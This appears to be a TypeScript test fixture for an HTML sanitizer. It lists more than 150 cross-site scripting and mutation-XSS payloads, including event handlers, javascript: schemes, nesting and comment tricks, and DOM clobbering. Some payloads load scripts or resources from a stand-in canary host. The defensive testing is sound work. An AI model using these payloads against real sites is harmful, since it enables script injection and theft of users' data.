import { drawnCases } from "@arzobispado/backend/testing/drawn-cases";

/**
 * Markup that tries to run a script or to reach another server, by kind, each named for what it attacks. `RUN` stands
 * for the call that must never happen, `AWAY` for the address that must never be requested.
 */
const attacks: Record<string, Record<string, string>> = {
  scripts: {
    "a script": `<script>RUN</script>`,
    "a script of another server": `<script src="AWAY"></script>`,
    "a script with a slash for a blank": `<SCRIPT/X SRC=AWAY></SCRIPT>`,
    "a script that appears when an inner one is taken out": `<scr<script></script>ipt>RUN</scr</script>ipt>`,
    "a module": `<script type="module">import "AWAY"; RUN</script>`,
    "an import map": `<script type="importmap">{"imports":{"react":"AWAY"}}</script>`,
    "a script in a drawing": `<svg><script>RUN</script></svg>`,
    "a drawing's script by href": `<svg><script href="AWAY"/></svg>`,
    "a drawing's script by xlink:href": `<svg><script xlink:href="data:,RUN"></script></svg>`,
    "a speculation rule": `<script type="speculationrules">{"prefetch":[{"urls":["AWAY"]}]}</script>`,
  },
  handlers: {
    "onerror of a picture": `<img src=x onerror=RUN>`,
    "slashes between attributes": `<img/src/onerror=RUN>`,
    "no blank between attributes": `<img src="x"onerror="RUN">`,
    "a handler written in entities": `<img src=x onerror="&#x63;anario&lpar;NUMBER&rpar;">`,
    "a vertical tab in a name": `<img src=x onerror\u000b=RUN>`,
    "line breaks around the equals sign": `<img src=x\r\nonerror\r\n=\r\nRUN>`,
    "backticks for quotes": "<img src=`x` onerror=`RUN`>",
    "a form feed after the name": `<svg\fonload=RUN>`,
    "onload of a drawing": `<svg onload=RUN></svg>`,
    "onload of a drawing that never ends": `<svg/onload=RUN//`,
    "onload of the body": `<body onload=RUN>`,
    "ontoggle of details": `<details open ontoggle=RUN>x</details>`,
    "onerror of a source": `<video><source onerror=RUN></video>`,
    "onerror of a recording": `<audio src=x onerror=RUN></audio>`,
    "the focus of an input": `<input autofocus onfocus=RUN>`,
    "the focus of a paragraph": `<p tabindex=0 autofocus onfocus=RUN>x</p>`,
    "the focus of a select": `<select autofocus onfocus=RUN></select>`,
    "the start of a marquee": `<marquee onstart=RUN>x</marquee>`,
    "the start of an animation": `<style>@keyframes k{}</style><p style="animation-name:k" onanimationstart=RUN>x</p>`,
    "the run of a transition": `<p style="transition:all 1s" id=t ontransitionrun=RUN>x</p>`,
    "a pointer over the whole window": `<p style="position:fixed;inset:0" onpointerenter=RUN onmousemove=RUN>x</p>`,
    "content that becomes visible": `<p oncontentvisibilityautostatechange=RUN style="content-visibility:auto">x</p>`,
    "a popover": `<button popovertarget=pop autofocus>x</button><div popover id=pop onbeforetoggle=RUN>x</div>`,
    "onload of a frame": `<iframe onload=RUN></iframe>`,
    "onerror of an object": `<object data="data:," onerror=RUN></object>`,
    "onerror of an embed": `<embed src=x onerror=RUN>`,
    "onerror of a style sheet": `<link rel=stylesheet href=AWAY onerror=RUN>`,
  },
  links: {
    "a javascript link": `<a href="javascript:RUN">x</a>`,
    "a tab in the scheme": `<a href="jav&#x09;ascript:RUN">x</a>`,
    "a line break in the scheme": `<a href="jav&NewLine;ascript:RUN">x</a>`,
    "a control character before the scheme": `<a href="&#1;javascript:RUN">x</a>`,
    "a named colon": `<a href="JaVaScRiPt&colon;RUN">x</a>`,
    "a scheme in numbers without semicolons": `<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58RUN">x</a>`,
    "blanks before the scheme": `<a href=" \n javascript:RUN">x</a>`,
    "a vbscript link": `<a href="vbscript:RUN">x</a>`,
    "a page in a link": `<a href="data:text/html,<script>RUN</script>">x</a>`,
    "a ping": `<a href="/" ping="AWAY">x</a>`,
    "an area of a map": `<map name=m><area shape=default href="javascript:RUN"></map><img usemap=#m src=x>`,
    "xlink:href of a drawn link": `<svg><a xlink:href="javascript:RUN"><text y=20>x</text></a></svg>`,
    "href of a formula": `<math href="javascript:RUN">x</math>`,
    "xlink:href of a formula": `<math><maction actiontype=statusline xlink:href="javascript:RUN">x</maction></math>`,
    "action of a form": `<form action="javascript:RUN"><button autofocus>x</button></form>`,
    "formaction of a button": `<form id=f></form><button form=f formaction="javascript:RUN">x</button>`,
    "formaction of a picture": `<input type=image formaction="data:text/html,<script>RUN</script>" src=AWAY>`,
    "action of an isindex": `<isindex action="javascript:RUN" type=image src=AWAY>`,
  },
  frames: {
    "a frame with a script for its address": `<iframe src="javascript:parent.RUN"></iframe>`,
    srcdoc: `<iframe srcdoc="<script>parent.RUN</script>"></iframe>`,
    "srcdoc in entities": `<iframe srcdoc="&lt;img src=x onerror=parent.RUN&gt;"></iframe>`,
    "a page in a frame": `<iframe src="data:text/html,<script src='AWAY'></script>"></iframe>`,
    "a frame of another server": `<iframe src="AWAY"></iframe>`,
    "a known host for a user": `<iframe src="https://www.youtube.com@canario.example/embed/DemoVideo01"></iframe>`,
    "a known host for a prefix": `<iframe src="https://www.youtube.com.canario.example/embed/DemoVideo01"></iframe>`,
    "a frame without a scheme": `<iframe src="//canario.example/NUMBER"></iframe>`,
    "a frame with backslashes": `<iframe src="/\\canario.example/NUMBER"></iframe>`,
    "a known host that leads on": `<iframe src="https://www.google.com/url?q=AWAY"></iframe>`,
    "a known service that is not ours to ask": `<iframe src="https://www.youtube.com/embed/DemoVideo01"></iframe>`,
    "an attack beside a map": `<iframe src="https://www.google.com/maps/embed?pb=x" onload=RUN srcdoc="<script>RUN</script>"></iframe>`,
    "a page in an object": `<object data="data:text/html,<script>RUN</script>"></object>`,
    "an object of another server": `<object data="AWAY"><param name=movie value=AWAY></object>`,
    "a drawing in an embed": `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.RUN'/>">`,
    "poster of a video": `<video poster="AWAY" controls></video>`,
    "poster that is a script": `<video poster="javascript:RUN" src="AWAY" autoplay></video>`,
    "subtitles of another server": `<video src=x><track default src="AWAY"></video>`,
    "a frameset": `<frameset onload=RUN><frame src="AWAY"></frameset>`,
    "a portal and a fenced frame": `<portal src="AWAY"></portal><fencedframe src="AWAY"></fencedframe>`,
  },
  pictures: {
    "a picture of another server": `<img src="AWAY">`,
    srcset: `<img src="/x" srcset="AWAY 1x, AWAY?2 2x">`,
    "a source of a picture": `<picture><source srcset="AWAY"><img src=x></picture>`,
    "a picture without a scheme": `<img src="//canario.example/NUMBER">`,
    "a picture with a backslash": `<img src="/\\canario.example/NUMBER">`,
    "a picture with a scheme and no slashes": `<img src="https:canario.example/NUMBER">`,
    "a tab in a picture's scheme": `<img src="ht&#x09;tps://canario.example/NUMBER">`,
    "a picture that leaves our files": `<img src="/api/files/..//..//canario.example/NUMBER" onerror=RUN>`,
    "an image by its old name": `<image src=AWAY onerror=RUN>`,
    "a picture in a drawing": `<svg><image href="AWAY" onerror=RUN /></svg>`,
    "a picture in a filter": `<svg><filter id=fi><feImage xlink:href="AWAY"/></filter><rect filter="url(#fi)"/></svg>`,
    "a drawing used from elsewhere": `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='RUN'/>#x"/></svg>`,
    "the background of a table": `<table background="AWAY"><tr><td background="AWAY">x</td></tr></table>`,
  },
  styles: {
    "a background in a style attribute": `<p style="background:url(AWAY)">x</p>`,
    "a style sheet in the text": `<style>@import "AWAY"; body{background:url(AWAY)}</style>`,
    "a linked style sheet": `<link rel=stylesheet href="AWAY">`,
    "what is fetched ahead": `<link rel=preload as=image href="AWAY"><link rel=prefetch href="AWAY"><link rel=modulepreload href="AWAY">`,
    "an expression in a style": `<p style="width:expression(RUN);behavior:url(AWAY)">x</p>`,
    "a set of pictures in a style": `<p style="--c:red;background:image-set('AWAY' 1x);list-style:url(AWAY)">x</p>`,
    "a font": `<style>@font-face{font-family:f;src:url(AWAY)} p{font-family:f}</style>`,
  },
  heads: {
    base: `<base href="https://canario.example/" target=_blank>`,
    "a refresh": `<meta http-equiv="refresh" content="0;url=AWAY">`,
    "a refresh to a script": `<meta http-equiv=refresh content="0;url=javascript:RUN">`,
    "a policy": `<meta http-equiv="Content-Security-Policy" content="script-src 'none'">`,
    "another alphabet": `<meta charset="utf-7">+ADw-script+AD4-RUN+ADw-/script+AD4-`,
    "an old manifest": `<html manifest="AWAY" onclick=RUN><head profile=AWAY>`,
    "a shadow tree": `<div><template shadowrootmode=open><img src=x onerror=RUN></template></div>`,
  },
  "raw texts": {
    noscript: `<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>`,
    xmp: `<xmp><p title="</xmp><img src=x onerror=RUN>"></xmp>`,
    textarea: `<textarea><p title="</textarea><img src=x onerror=RUN>"></textarea>`,
    title: `<title><p title="</title><img src=x onerror=RUN>"></title>`,
    style: `<style><p title="</style><img src=x onerror=RUN>"></style>`,
    noembed: `<noembed><p title="</noembed><img src=x onerror=RUN>"></noembed>`,
    noframes: `<noframes><p title="</noframes><img src=x onerror=RUN>"></noframes>`,
    listing: `<listing>&lt;img src=x onerror=RUN&gt;</listing>`,
    template: `<template><p title="</template><img src=x onerror=RUN>"></template>`,
  },
  nesting: {
    "a style in a drawing in a paragraph": `<svg></p><style><a id="</style><img src=x onerror=RUN>"></style></svg>`,
    "a style in a formula in a table": `<math><mtext><table><mglyph><style><!--</style><p title="--&gt;&lt;img src=x onerror=RUN&gt;">`,
    "a formula with HTML in it": `<math><annotation-xml encoding="text/html"><style><img src=x onerror=RUN></style></annotation-xml></math>`,
    "a drawing with HTML in it": `<svg><foreignObject><body><img src=x onerror=RUN></body></foreignObject></svg>`,
    "a drawing's description": `<svg><desc><style><i title="</style><img src=x onerror=RUN>"></style></desc></svg>`,
    "forms within each other": `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN></style></form>`,
    "a form across a table": `<table><td><form><td></form><form><p></form><img src=x onerror=RUN></td></table>`,
    "a style in a select": `<select><style></select><img src=x onerror=RUN></style></select>`,
    "an option": `<select><option>&lt;img src=x onerror=RUN&gt;<style></option></select><img src=x onerror=RUN>`,
  },
  tokens: {
    "a comment that ends early": `<!--><img src=x onerror=RUN>-->`,
    "a comment with an exclamation mark": `<!-- --!><img src=x onerror=RUN> -->`,
    "a comment of the marked kind": `<![CDATA[><img src=x onerror=RUN>]]>`,
    "marked text in a drawing": `<svg><![CDATA[</svg><img src=x onerror=RUN>]]></svg>`,
    "an instruction": `<?xml version="1.0"?><img src=x onerror=RUN>?>`,
    "an end tag without a name": `</ ><img src=x onerror=RUN>`,
    "a name of a percent sign": `<% <img src=x onerror=RUN> %>`,
    "a tag in single quotes": `<a title='"><img src=x onerror=RUN>' href="/">x</a>`,
    "a tag in a picture's words": `<img src="/api/files/a/b/c.png" alt="&quot;><img src=x onerror=RUN>">`,
    "a table's box of ours with more in it": `<div class="tabla" onfocus=RUN autofocus tabindex=0><table><tr><td><table><tr><td onmousemove=RUN>x</td></tr></table></td></tr></table></div>`,
    "a link in a link across a table": `<a href="/"><table><tr><td><a href="javascript:RUN">x</a></td></tr></table></a>`,
    "elements in each other, deep": `${"<div>".repeat(600)}<img src=x onerror=RUN>${"</div>".repeat(600)}`,
    "markup in entities": `&lt;img src=x onerror=RUN&gt;`,
    "markup in entities of entities": `&amp;lt;img src=x onerror=RUN&amp;gt;`,
    "a tag that never ends": `<img src=x onerror=RUN title="`,
  },
  animations: {
    "values of an animation": `<svg><a><animate attributeName=href values="javascript:RUN"/><text y=20>x</text></a></svg>`,
    "an animation of another element": `<svg><animate xlink:href=#lk attributeName=href values=";javascript:RUN" dur=1s /><a id=lk><text y=20>x</text></a></svg>`,
    "a set": `<svg><a><set attributeName=href to="javascript:RUN"/><text y=20>x</text></a></svg>`,
    "the begin of an animation": `<svg><animate onbegin=RUN attributeName=x dur=1s /></svg>`,
    "the motion of an animation": `<svg><circle><animateTransform onbegin=RUN onend=RUN dur=1s /></circle></svg>`,
  },
  names: {
    "the name of what the page looks for": `<a id="contenido"></a><a id="canario" name="canario"></a><a id="__reactRouterContext"></a>`,
    "the names of the document": `<form name=body><input name=head></form><img name=getElementById><img name=querySelector>`,
    "the names of a form": `<form id=x><input name=attributes><input name=parentNode><input name=childNodes></form>`,
    "two of one name": `<a id=__reactRouterManifest></a><a id=__reactRouterManifest name=routes href="AWAY"></a>`,
  },
  contexts: {
    "a template of another language": `{{constructor.constructor('RUN')()}}\${RUN}<%=RUN%>#{RUN}`,
    "the end of the page's own script": `</script><script>RUN</script>`,
    "the end of the title": `</title></head><body><img src=x onerror=RUN>`,
    "a comment in a script": `<!--<script>RUN`,
    "the end of an attribute": `"'><img src=x onerror=RUN>`,
    "an attribute more": `" autofocus onfocus=RUN x="`,
    "line separators": `\u2028RUN\u2029`,
    "HTML in a feed": `]]><x:script xmlns:x="http://www.w3.org/1999/xhtml">RUN</x:script>`,
    "a style sheet of a feed": `<?xml-stylesheet type="text/xsl" href="AWAY"?><!DOCTYPE x [<!ENTITY e SYSTEM "AWAY">]>&e;`,
    "a text that turns around": `\u202e<img src=x onerror=RUN>\u202c`,
    // Last, because no markup ends it.
    plaintext: `<plaintext><img src=x onerror=RUN>`,
  },
};

export interface MarkupAttack {
  kind: string;
  name: string;
  markup: string;
}

export const canaryHost = "canario.example";

/** Closes every construct that an attack may have opened, so that the next attack in the same text can work. */
const end = `\n--> ]]>"'></textarea></title></style></script></noscript></xmp></template></svg></math></select></table></iframe>\n`;

/** Attacks with the calls and addresses that identify them. */
export const markupAttacks: MarkupAttack[] = Object.entries(attacks)
  .flatMap(([kind, patterns]) => Object.entries(patterns).map(([name, pattern]) => ({ kind, name, pattern })))
  .map(({ pattern, ...attack }, number) => ({
    ...attack,
    markup: pattern
      .replaceAll("RUN", `canario(${number})`)
      .replaceAll("AWAY", `https://${canaryHost}/${number}`)
      .replaceAll("NUMBER", String(number)),
  }));

/** Attacks that a save accepts: it refuses more than 100 levels of elements [SEG-80]. */
export const savedAttacks = markupAttacks.filter(({ markup }) => (markup.match(/<[a-z]/gi) ?? []).length <= 100);

/** Two attacks of each kind, drawn by lot, for stories that would take too long with all of them. */
export const drawnAttacks = drawnCases(savedAttacks, 2, ({ kind }) => kind);

/** Text with all attacks. */
export const allAttacks = savedAttacks.map(({ markup }) => markup).join(end);

/** Name of the attack with this number in its call or address. */
export const nameOfAttack = (number: number): string => markupAttacks[number]?.name ?? String(number);
